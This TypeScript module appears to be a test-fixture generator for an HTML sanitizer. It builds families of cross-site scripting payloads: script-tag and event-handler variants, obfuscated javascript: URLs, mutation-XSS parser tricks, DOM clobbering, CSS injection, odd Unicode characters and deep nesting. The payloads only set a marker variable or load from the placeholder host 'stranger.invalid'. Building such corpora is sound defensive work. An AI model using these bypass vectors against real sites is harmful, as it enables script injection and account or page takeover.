/** Foreign text that wants to run something, call somebody, stay, or take the page away. `ran` stands on a window if it succeeds. */
export interface Hostile {
  readonly family: string;
  readonly html: string;
}

/** Nobody may be asked at this host. */
export const strangeHost = 'stranger.invalid';
const stranger = `https://${strangeHost}`;
const run = 'parent.ran=top.ran=ran=1';

const product = <A, B>(first: readonly A[], second: readonly B[]): (readonly [A, B])[] =>
  first.flatMap((a) => second.map((b) => [a, b] as const));

/** Contexts that change what a parser makes of what stands in them. */
const contexts: readonly (readonly [before: string, after: string])[] = [
  ['', ''],
  ['<svg>', '</svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<math>', '</math>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<template>', '</template>'],
  ['<noscript>', '</noscript>'],
  ['<select>', '</select>'],
  ['<table>', '</table>'],
  ['<table><tr><td>', '</table>'],
  ['<form>', '</form>'],
  ['<textarea></textarea>', ''],
  ['<title></title>', ''],
  ['<style></style>', ''],
  ['<xmp></xmp>', ''],
  ['<noembed></noembed>', ''],
  ['<!-- -->', ''],
  ['<!-->', '-->'],
  ['<!--->', '-->'],
  ['<![CDATA[', ']]>'],
  ['<?xml ?>', ''],
  ['<!DOCTYPE html>', ''],
  ['<p title="', '">'],
  ['</div></div></main>', ''],
];

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script/x>`,
  `<script type=module>${run}</script>`,
  `<script>${run}`,
  `<script src=${stranger}/s.js></script>`,
  `<script src=//${strangeHost}/s.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script href="${stranger}/s.js" />`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
];

const handlers = [
  'onload',
  'onerror',
  'onfocus',
  'onfocusin',
  'onblur',
  'ontoggle',
  'onbeforetoggle',
  'onstart',
  'onbegin',
  'onend',
  'onrepeat',
  'onanimationstart',
  'ontransitionrun',
  'onscroll',
  'onpageshow',
  'onresize',
  'onhashchange',
  'onmessage',
  'oncanplay',
  'onloadstart',
  'onpointerover',
  'onmouseover',
  'onclick',
  'ONERROR',
  'oNlOaD',
];

const elements = [
  'img src=x',
  'image src=x',
  'svg',
  'body',
  'html',
  'video src=x autoplay',
  'audio src=x autoplay',
  'details open',
  'input autofocus',
  'input type=image src=x',
  'textarea autofocus',
  'select autofocus',
  'button autofocus',
  'a href=# autofocus tabindex=1',
  'marquee',
  'iframe src=about:blank',
  'object data=x',
  'embed src=x',
  'link rel=stylesheet href=x',
  'style',
  'div contenteditable autofocus',
  'x-x tabindex=1 autofocus',
  'dialog open',
  'frameset',
];

const holders: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`,
  (to) => `<a href=${to}>x</a>`,
  (to) => `<area href="${to}">`,
  (to) => `<svg><a href="${to}"><text y=9>x</text></a></svg>`,
  (to) => `<svg><a xlink:href="${to}"><text y=9>x</text></a></svg>`,
  (to) => `<svg><use href="${to}"/><image href="${to}"/></svg>`,
  (to) => `<svg><filter><feImage href="${to}"/></filter></svg>`,
  (to) => `<svg><a><animate attributeName=href values="${to}"/></a></svg>`,
  (to) => `<svg><a><set attributeName=href to="${to}"/></a></svg>`,
  (to) => `<math href="${to}"><mi xlink:href="${to}">x</mi></math>`,
  (to) => `<form action="${to}"><button>x</button></form>`,
  (to) => `<button formaction="${to}">x</button><input type=submit formaction="${to}">`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<frameset><frame src="${to}"></frameset>`,
  (to) => `<embed src="${to}"><object data="${to}"></object>`,
  (to) => `<applet code="${to}" codebase="${to}"></applet>`,
  (to) => `<img src="${to}">`,
  (to) => `<img srcset="${to} 1x, ${to} 2x" src="${to}">`,
  (to) => `<picture><source srcset="${to}"><img alt=x></picture>`,
  (to) => `<video poster="${to}" src="${to}" autoplay><source src="${to}"><track src="${to}" default></video>`,
  (to) => `<audio src="${to}" autoplay></audio><bgsound src="${to}">`,
  (to) => `<body background="${to}">`,
  (to) => `<table background="${to}"><tr><td background="${to}">x</table>`,
  (to) => `<base href="${to}">`,
  (to) => `<link rel=stylesheet href="${to}"><link rel=import href="${to}"><link rel=preload as=image href="${to}">`,
  (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `<input type=image src="${to}">`,
  (to) => `<a href="https://example.com/" ping="${to}">x</a>`,
  (to) => `<blockquote cite="${to}">x</blockquote><q cite="${to}">x</q>`,
  (to) => `<p style="background:url('${to}')">x</p>`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `\u00A0javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\0script:${run}`,
  `java&Tab;script&colon;${run}`,
  `java&#x0A;script:${run}`,
  `&#106;&#97;vascript:${run}`,
  `&#x6A&#x61vascript:${run}`,
  `&#0000106avascript:${run}`,
  `javascript&#58;${run}`,
  `javascript://example.com/%0A${run}`,
  `https:javascript:${run}`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
  `ｊavascript:${run}`,
  `java\u200Bscript:${run}`,
  `vbscript:${run}`,
  `livescript:${run}`,
  `data:text/html,&lt;script&gt;${run}&lt;/script&gt;`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/&gt;`,
  `blob:https://${strangeHost}/x`,
  'filesystem:https://stranger.invalid/temporary/x',
  `${stranger}/x`,
  `//${strangeHost}/x`,
  `\\\\${strangeHost}\\x`,
  `http://user:password@${strangeHost}/x`,
];

/** What changes its meaning when a serialised tree is parsed once more. */
function* mutations(): Generator<string> {
  const img = `<img src=x onerror=${run}>`;
  const escaped = img.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  const raws = ['style', 'script', 'xmp', 'noscript', 'title', 'textarea', 'iframe', 'noembed', 'noframes'];
  const points = [
    ['math', 'mtext'],
    ['math', 'mi'],
    ['math', 'annotation-xml encoding="text/html"'],
    ['svg', 'desc'],
    ['svg', 'title'],
    ['svg', 'foreignObject'],
  ] as const;
  for (const [[root, point], raw] of product(points, raws)) {
    for (const inside of ['', '<table>', '<form>', '<p>', '<mglyph>', '<table><mglyph>', '<form><mglyph>', '</form><form>']) {
      yield `<${root}><${point}>${inside}<${raw}><!--</${raw}><img title="--&gt;${escaped}">`;
      yield `<${root}></p><${raw}><a id="</${raw}>${img}">${inside}`;
    }
  }
  for (const raw of raws) {
    yield `<${raw}><p title="</${raw}>${img}">`;
    yield `<${raw}></${raw}>${img}</${raw}>`;
    yield `<p title="<${raw}>">${img}</${raw}>`;
  }
  yield `<plaintext>${img}`;
  yield `<form><math><mtext></form><form><mglyph><style></math>${img}`;
  yield `<select><template><style><!--</style><a rel="--></style></template></select>${img}">`;
  yield `<table><caption><svg><title><style></table>${img}`;
}

/** Names that shadow what scripts look up on a document, a form or a window. */
function* clobberings(): Generator<string> {
  const names = [
    ...['attributes', 'parentNode', 'nodeName', 'childNodes', 'children', 'innerHTML', 'removeChild', 'setAttribute'],
    ...['body', 'head', 'cookie', 'baseURI', 'location', 'document', 'defaultView', 'getElementById', 'createElement', 'currentScript'],
    ...['root', 'story-1', 'search-options', '__proto__', 'constructor', 'trustedTypes', 'fetch'],
  ];
  for (const name of names) {
    yield `<form id="${name}"><input name="${name}"><input name="${name}"></form>`;
    yield `<a id="${name}"></a><a id="${name}" name="${name}" href="${stranger}/x">x</a>`;
    yield `<img name="${name}" id="${name}"><object id="${name}"></object><embed name="${name}">`;
    yield `<iframe name="${name}" srcdoc="<a id=${name}>"></iframe>`;
  }
}

function* styles(): Generator<string> {
  const rules = [
    `background:url(${stranger}/b.png)`,
    `background:u\\72l(${stranger}/b.png)`,
    `width:expression(${run})`,
    `-moz-binding:url(${stranger}/x.xml#x)`,
    `behavior:url(${stranger}/x.htc)`,
    'position:fixed;inset:0;z-index:99999;background:red',
    `list-style:url("javascript:${run}")`,
    `content:image-set("${stranger}/i.png" 1x)`,
  ];
  for (const rule of rules) {
    yield `<p style="${rule.replaceAll('"', '&quot;')}">x</p>`;
    yield `<style>body, .headline { ${rule} }</style>`;
    yield `<svg><style>* { ${rule} }</style></svg>`;
    yield `<div class="fixed inset-0 pill" style='${rule}'>x</div>`;
  }
  yield `<style>@import "${stranger}/s.css"; @font-face { font-family: x; src: url(${stranger}/f.woff) } * { font-family: x }</style>`;
  yield `<link rel=stylesheet href="data:text/css,*{background:url(${stranger}/b.png)}">`;
}

/** One attack with a strange character at each of its places. */
function* strangeCharacters(): Generator<string> {
  const attack = `<img src=x onerror=${run}>`;
  for (const character of [
    '\0',
    '\t',
    '\n',
    '\f',
    '\r',
    '/',
    '\u00A0',
    '\u200B',
    '\uFEFF',
    '\u2028',
    '\uD800',
    '"',
    "'",
    '`',
    '<',
    '>',
    '&#0;',
    '\u202E',
  ]) {
    for (let place = 0; place <= attack.indexOf('=ran'); place += 2) yield attack.slice(0, place) + character + attack.slice(place);
  }
  yield* [
    `<ſcript>${run}</ſcript>`,
    `<ımg src=x onerror=${run}>`,
    `＜script＞${run}＜/script＞`,
    `<img src=x ｏnerror=${run}>`,
    `\u202E<script>${run}</script>`,
  ];
}

function* nestings(): Generator<string> {
  const end = `<img src=x onerror=${run}><script>${run}</script>`;
  for (const [tag, depth] of product(['div', 'b', 'a', 'svg', 'math', 'table', 'form', 'template', 'svg><desc'], [3, 100, 600, 3000])) {
    yield `<${tag}>`.repeat(depth) + end;
  }
  yield `${'<b><i>'.repeat(400)}</b>${end}`;
  yield `${'<table><tr><td>'.repeat(200)}${end}`;
}

const family = (name: string, all: Iterable<string>): Hostile[] => [...new Set(all)].map((html) => ({ family: name, html }));

/** Every payload of every family. */
export const hostileHtml: readonly Hostile[] = [
  ...family(
    'script',
    product(contexts, scripts).map(([[before, after], script]) => before + script + after),
  ),
  ...family(
    'handler',
    product(elements, handlers).map(([element, handler]) => `<${element} ${handler}="${run}">x`),
  ),
  ...family(
    'handler in a context',
    contexts.flatMap(([before, after]) => [
      `${before}<img src=x onerror=${run}>${after}`,
      `${before}<svg onload=${run}>${after}`,
      `${before}<svg><animate onbegin=${run} attributeName=x dur=1s></svg>${after}`,
    ]),
  ),
  ...family(
    'address',
    product(holders, addresses).map(([hold, address]) => hold(address)),
  ),
  ...family('frame', [
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
    `<iframe sandbox="allow-scripts allow-same-origin" srcdoc='<img src=x onerror=${run}>'></iframe>`,
    `<fencedframe src="${stranger}/x"></fencedframe><portal src="${stranger}/x"></portal>`,
    `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
  ]),
  ...family('mutation', mutations()),
  ...family('clobbering', clobberings()),
  ...family('style', styles()),
  ...family('character', strangeCharacters()),
  ...family('nesting', nestings()),
];
